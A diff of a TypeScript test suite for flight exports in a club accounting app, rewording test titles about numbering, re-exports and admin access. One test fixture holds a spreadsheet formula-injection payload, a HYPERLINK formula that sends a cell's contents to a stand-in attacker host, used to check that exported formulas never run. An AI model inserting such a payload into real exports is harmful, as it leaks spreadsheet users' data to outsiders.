@@ -12,7 +12,7 @@ onEachEngine('exports of flights', (open) => {
   const save = (over: Parameters<typeof flown>[1] = {}) => told(club, 'anna', 'save', flown(club, over))
   const signs = ({ lines }: MadeExport) => lines.map(({ number, flightId, sign }) => [number, flightId, sign])
 
-  it('L18: an export has the closed flights that accounting has not got, numbered on', async () => {
+  it('L18: an export contains the closed flights that accounting lacks, with consecutive numbers', async () => {
     expect(await tell(club, 'anna', 'export', {})).toEqual(nothingNew)
     const first = await save({ leftAt: '2026-07-01T06:00Z', backAt: '2026-07-01T07:00Z' })
     const earlier = await save({ leftAt: '2026-07-01T04:00Z', backAt: '2026-07-01T05:00Z' })
@@ -28,7 +28,7 @@ onEachEngine('exports of flights', (open) => {
     expect(signs(await exported(club))).toEqual([[3, third.id, 1]])
   })
 
-  it('L18: a corrected flight is taken back and given anew, a removed one is taken back, a restored one given again', async () => {
+  it('L18: a corrected flight is cancelled and exported again, a removed one is cancelled, a restored one exported again', async () => {
     const flight = await save({ landings: 1 })
     const given = await exported(club)
     await told(club, 'anna', 'save', { ...flown(club, { landings: 2 }), id: flight.id })
@@ -55,7 +55,7 @@ onEachEngine('exports of flights', (open) => {
     expect(await tell(club, 'anna', 'export', {}), 'saved without a change').toEqual(nothingNew)
   })
 
-  it('L18: a stretch that another flight settles is given anew', async () => {
+  it('L18: a flight whose readings another flight changes is exported again', async () => {
     const first = await save({ meters: [run(club, 100, 102)] })
     const later = { leftAt: '2026-07-01T06:00Z', backAt: '2026-07-01T07:00Z', meters: [run(club, 101, 103)] }
     const disputed = await save(later)
@@ -70,7 +70,7 @@ onEachEngine('exports of flights', (open) => {
     ])
   })
 
-  it('L18: an export can be had again by its number, to the byte, whatever changed since', async () => {
+  it('L18: an export can be downloaded again by its number, byte for byte, whatever has changed since', async () => {
     const flight = await save({ remark: 'first; "quoted"' })
     const made = await exported(club)
     await told(club, 'anna', 'save', { ...flown(club, { remark: 'second' }), id: flight.id })
@@ -88,7 +88,7 @@ onEachEngine('exports of flights', (open) => {
     expect(await allLines(club.db)).toHaveLength(3)
   })
 
-  it('L18: the list of exports has the newest first, for administrators alone', async () => {
+  it('L18: the list of exports starts with the newest, for administrators only', async () => {
     await save()
     const first = await exported(club)
     club.now = '2026-07-02T08:00:00.000Z'
@@ -112,7 +112,7 @@ onEachEngine('exports of flights', (open) => {
     )
   })
 
-  it('L23: names, quotes, line breaks and formulas are read back, and none runs in a spreadsheet', async () => {
+  it('L23: names, quotes, line breaks and formulas survive, and no formula runs in a spreadsheet', async () => {
     const hyperlink = '=HYPERLINK("https://evil.example/?x="&A1;"Click")'
     await club.db
       .updateTable('users')
